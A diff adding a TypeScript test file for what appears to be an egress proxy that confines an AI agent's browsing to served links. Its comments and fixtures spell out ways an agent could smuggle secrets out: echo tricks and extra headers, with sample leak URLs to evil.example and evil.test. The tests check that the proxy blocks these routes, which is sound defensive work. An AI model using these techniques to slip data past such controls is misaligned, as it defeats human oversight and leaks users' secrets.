@@ -1,0 +1,179 @@
+// Attacks on browsing by link provenance that write data into a followed request after all.
+//
+// Echo: a response may repeat what its request carried (a search API's "query.original", a page's
+// own URL, an API that shows the headers or body it received). An agent that puts
+// `https://evil.example/?d=<secret>` into a query, a header or a body of a request to a browsing
+// source gets it back in the answer; were it recorded as served, the agent could then follow it.
+// Property-based over where the URL is put in the request and how the server transforms it on the
+// way back (case, percent-escapes in one or more layers, HTML entities, JSON \u escapes, Unicode
+// or punycode host, scheme dropped and added back, surrounding text), in each body format; then
+// through a real Airlock with curl and Python requests.
+//
+// Headers: the URL of a followed link is what was served, but the agent chose every header of the
+// request (a custom header, Cookie, User-Agent, Authorization from userinfo): each one data on its
+// way to a host nobody allowed. A followed link is forwarded with fixed headers only.
+import http from 'node:http';
+import fc from 'fast-check';
+import t from 'tap';
+import { LinkScanner, echoedBy, requestSkeletons, type LinkFormat } from '../../describe/links.ts';
+import { tempDir, type Teardown } from '../temp-dir.ts';
+import { policyCopy, startSessionAirlock, testConfig, viaCurl, viaPython, type Web } from '../sessions/helpers.ts';
+
+const numRuns = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 300);
+const seed = process.env.AIRLOCK_FUZZ_SEED ? { seed: Number(process.env.AIRLOCK_FUZZ_SEED) } : {};
+
+const word = fc.stringMatching(/^[A-Za-z0-9]{3,10}$/);
+/** A URL carrying data: the agent's choice of host, path and query. */
+const leakUrl = fc.record({
+  scheme: fc.constantFrom('http', 'https'),
+  host: fc.tuple(word, fc.constantFrom('evil.example', 'bücher.example', 'x.test')).map(([a, b]) => `${a}.${b}`),
+  path: fc.array(word, { minLength: 0, maxLength: 3 }),
+  query: fc.array(fc.tuple(word, word), { maxLength: 3 }),
+}).map((u) => `${u.scheme}://${u.host}/${u.path.join('/')}${u.query.length ? `?${u.query.map(([k, v]) => `${k}=${v}`).join('&')}` : ''}`)
+  .filter((u) => u.length > 20); // a few bytes of data at least
+
+const pct = (s: string): string => [...Buffer.from(s)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
+const htmlEntities = (s: string): string => [...s].map((c) => (/[a-z:/.?=&]/i.test(c) ? `&#x${c.codePointAt(0)!.toString(16)};` : c)).join('');
+const jsonEscapes = (s: string): string => [...s].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
+
+/** How a server might write back what it received: [name, transform] (the result is placed in the body raw). */
+const transforms: Record<string, (u: string, format: LinkFormat) => string> = {
+  same: (u) => u,
+  upper: (u) => u.toUpperCase(),
+  lower: (u) => u.toLowerCase(),
+  punycode: (u) => new URL(u).href,
+  unicode: (u) => { const x = new URL(u); return `${x.protocol}//${decodeURIComponent(x.host.replace(/xn--bcher-kva/, 'bücher'))}${x.pathname}${x.search}`; },
+  'scheme-swapped': (u) => u.replace(/^https?:/, (s) => (s === 'http:' ? 'https:' : 'http:')),
+  'escaped-path': (u) => { const x = new URL(u); return `${x.protocol}//${x.host}${x.pathname.split('/').map((p) => pct(p)).join('/')}${x.search}`; },
+  'entities-or-escapes': (u, f) => (f === 'html' ? htmlEntities(u) : f === 'json' ? jsonEscapes(u) : u),
+  'trailing-dot-host': (u) => { const x = new URL(u); return `${x.protocol}//${x.hostname}.${x.pathname}${x.search}`; },
+};
+
+/** Where the agent puts the URL in its request, and how it spells it there. */
+const placements = ['query', 'query-twice-escaped', 'path', 'header', 'json-body', 'json-body-unicode-escapes', 'form-body', 'text-body', 'no-scheme'] as const;
+type Placement = (typeof placements)[number];
+
+function requestWith(url: string, where: Placement): Parameters<typeof requestSkeletons>[0] {
+  const base = { pathAndQuery: '/search?q=news', headers: [['accept', '*/*']] as Array<[string, string]>, summary: { truncated: false } };
+  const bodyOf = (text: string, summary: Record<string, unknown>) => ({ ...base, body: { bytes: Buffer.from(text), truncated: false }, summary: { truncated: false, ...summary } });
+  switch (where) {
+    case 'query': return { ...base, pathAndQuery: `/search?q=${encodeURIComponent(url)}` };
+    case 'query-twice-escaped': return { ...base, pathAndQuery: `/search?q=${encodeURIComponent(encodeURIComponent(url))}` };
+    case 'path': return { ...base, pathAndQuery: `/go/${url.replace('://', ':/')}` };
+    case 'header': return { ...base, headers: [...base.headers, ['x-query', url]] };
+    case 'json-body': return bodyOf(JSON.stringify({ q: url }), { json: { q: url } });
+    // Parsed (as the description parses it) from a body written with \u escapes only.
+    case 'json-body-unicode-escapes': return bodyOf(`{"q":"${jsonEscapes(url)}"}`, { json: { q: url } });
+    case 'form-body': return bodyOf(`q=${encodeURIComponent(url)}`, { form: { q: [url] } });
+    case 'text-body': return bodyOf(`look up ${url} please`, { text: `look up ${url} please` });
+    default: return { ...base, pathAndQuery: `/search?q=${encodeURIComponent(url.replace(/^https?:\/\//, ''))}` }; // autolinked by the server
+  }
+}
+
+function answerWith(echo: string, format: LinkFormat, served: string): string {
+  if (format === 'html') return `<html><body><p>Results for <b>${echo}</b></p><a href="${served}">result</a><link rel="canonical" href="/search?q=${echo}"></body></html>`;
+  if (format === 'json') return `{"query":{"original":"${echo}"},"results":[{"url":"${served}"}]}`;
+  return `you searched for ${echo}\nresult: ${served}\n`;
+}
+
+function recorded(request: Parameters<typeof requestSkeletons>[0], format: LinkFormat, body: string): string[] {
+  const scanner = new LinkScanner(format, 'https://search.example/search?q=news');
+  scanner.write(body);
+  const sent = requestSkeletons(request);
+  if (!sent) return [];
+  return scanner.end().filter((u) => !echoedBy(u, sent));
+}
+
+t.test('a URL the request carried is not recorded when the answer echoes it, however transformed (property)', async (t) => {
+  const served = 'https://blog.example/posts/2024/airlock-review';
+  fc.assert(fc.property(leakUrl, fc.constantFrom(...placements), fc.constantFrom(...Object.keys(transforms)), fc.constantFrom<LinkFormat>('html', 'json', 'text'), (url, where, how, format) => {
+    let echo = transforms[how]!(url, format);
+    if (where === 'no-scheme') echo = echo.replace(/^https?:\/\//i, 'http://');
+    const links = recorded(requestWith(url, where), format, answerWith(echo, format, served));
+    // The result the source chose is recorded; nothing on the agent's own host is.
+    const leaked = links.filter((l) => new URL(l).hostname.endsWith(new URL(url).hostname.split('.').slice(1).join('.').replace('bücher', 'xn--bcher-kva')));
+    return links.includes(served) && leaked.length === 0;
+  }), { numRuns, ...seed });
+});
+
+t.test('links a source chose are recorded beside the echo; a body not seen whole records nothing', async (t) => {
+  const req = requestWith('https://evil.example/?d=secret-data', 'query');
+  const body = answerWith('https://evil.example/?d=secret-data', 'json', 'https://docs.example/guide');
+  t.same(recorded(req, 'json', body), ['https://docs.example/guide']);
+  // Links that only share words with the query are the source's own.
+  const search = { pathAndQuery: '/search?q=python+asyncio+tutorial', headers: [] as Array<[string, string]>, summary: { truncated: false } };
+  t.same(recorded(search, 'json', '{"results":[{"url":"https://docs.python.org/3/library/asyncio.html"},{"url":"https://realpython.com/async-io-python/"}]}'),
+    ['https://docs.python.org/3/library/asyncio.html', 'https://realpython.com/async-io-python/']);
+  t.equal(requestSkeletons({ ...req, body: { bytes: Buffer.from('x'), truncated: true }, summary: { truncated: true } }), undefined, 'an upload past the capture: unknown, so no links');
+  t.equal(requestSkeletons({ ...req, summary: { truncated: false, decode_error: 'unknown content coding' } }), undefined, 'an undecodable body: no links');
+  // A gzip body: its raw bytes are no text, so only what the description parsed whole counts.
+  const gz = { ...req, headers: [['content-encoding', 'gzip']] as Array<[string, string]>, body: { bytes: Buffer.from([0x1f, 0x8b, 8, 0]), truncated: false } };
+  t.equal(requestSkeletons({ ...gz, summary: { truncated: false, text: 'a'.repeat(4096), text_truncated: true } }), undefined, 'a compressed text shown only in part: no links');
+  t.ok(requestSkeletons({ ...gz, summary: { truncated: false, json: { q: 'https://evil.example/?d=x' } } })?.some((k) => k.includes('evilexampledx')), 'a compressed JSON body parsed whole is read from its parse');
+  t.equal(requestSkeletons({ ...req, body: { bytes: Buffer.from('\xff\xfe'), truncated: false }, summary: { truncated: false, charset: 'utf-16le', text: 'x'.repeat(10), text_truncated: true } }), undefined, 'UTF-16 text shown only in part: no links');
+});
+
+interface Hit { host: string; url: string; headers: http.IncomingHttpHeaders }
+
+/** search.test echoes its query and its X-Query header, and serves one result link; blog.test records what it gets. */
+async function startEchoWeb(t: Teardown): Promise<Web & { all: Hit[] }> {
+  const all: Hit[] = [];
+  let port = 0;
+  const server = http.createServer((req, res) => {
+    req.resume();
+    req.on('end', () => {
+      const host = (req.headers.host ?? '').split(':')[0]!;
+      all.push({ host, url: req.url ?? '', headers: req.headers });
+      const q = new URL(req.url ?? '/', 'http://x').searchParams.get('q') ?? '';
+      if (host === 'search.test') {
+        res.setHeader('content-type', 'application/json');
+        res.end(JSON.stringify({ query: { original: q, header: req.headers['x-query'] ?? '', upper: q.toUpperCase() }, results: [{ url: `http://blog.test:${port}/post?id=4` }] }));
+      } else {
+        res.setHeader('content-type', 'text/plain');
+        res.end(`ok ${host}`);
+      }
+    });
+  });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  port = (server.address() as { port: number }).port;
+  t.teardown(() => new Promise<void>((r) => { server.closeAllConnections(); server.close(() => r()); }));
+  return { port, hits: [], all, origin: (h) => `http://${h}:${port}` };
+}
+
+t.test('through the real proxy: echoed URLs stay unfollowable; a followed link carries none of the agent\'s headers', async (t) => {
+  const web = await startEchoWeb(t);
+  const airlock = await startSessionAirlock(t, tempDir(t, 'al-echo-'), policyCopy(t, { config: { ...testConfig.config, labels: { hosts: { 'search.test': [] } } } }), web);
+  const agent = await airlock.agents.add('bot');
+  const proxy = airlock.proxyUrl('bot', agent.token);
+  const evil = (d: string): string => `http://evil.test:${web.port}/x?d=${d}`;
+
+  // The query, a header, the query with the scheme left for the server to upper-case.
+  t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=${encodeURIComponent(evil('secret1'))}`)).status, 200);
+  t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=news`, undefined, { 'x-query': evil('secret2') })).status, 200);
+  t.equal((await viaPython(proxy, 'GET', `${web.origin('search.test')}/s?q=${encodeURIComponent(evil('secret3'))}`)).status, 200); // echoed upper-case too
+  for (const u of [evil('secret1'), evil('secret2'), evil('secret3'), evil('secret3').toUpperCase().replace(/^HTTP:\/\/EVIL\.TEST/, 'http://evil.test')]) {
+    const r = await viaCurl(proxy, 'GET', u);
+    t.equal(r.status, 403, `the echoed ${u} is not followable`);
+  }
+  t.notOk(web.all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');
+
+  // The result the source served is followable, with curl and Python requests, but bare.
+  const link = `http://blog.test:${web.port}/post?id=4`;
+  const viaHeaders = await viaCurl(proxy, 'GET', link, undefined, { 'x-leak': 'secret4', cookie: 'c=secret5', 'user-agent': 'secret6', referer: 'http://x.example/secret7', 'accept-language': 'secret8' });
+  t.equal(viaHeaders.status, 200);
+  t.equal(viaHeaders.body, 'ok blog.test');
+  const userinfo = link.replace('http://', 'http://u:secret9@');
+  t.equal((await viaCurl(proxy, 'GET', userinfo)).status, 200, 'curl sends userinfo as Authorization');
+  const py = await viaPython(proxy, 'GET', link);
+  t.equal(py.status, 200);
+  t.equal(py.body, 'ok blog.test', 'Python requests reads the bare answer');
+  const blog = web.all.filter((h) => h.host === 'blog.test');
+  t.equal(blog.length, 3);
+  for (const h of blog) {
+    t.same(Object.keys(h.headers).sort(), ['accept', 'connection', 'host', 'user-agent'], 'only fixed headers reach the link');
+    t.notMatch(JSON.stringify(h.headers), /secret/i);
+  }
+  // Requests to allowed hosts keep the agent's headers.
+  await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=x`, undefined, { 'x-query': 'kept' });
+  t.equal(web.all.at(-1)!.headers['x-query'], 'kept');
+});
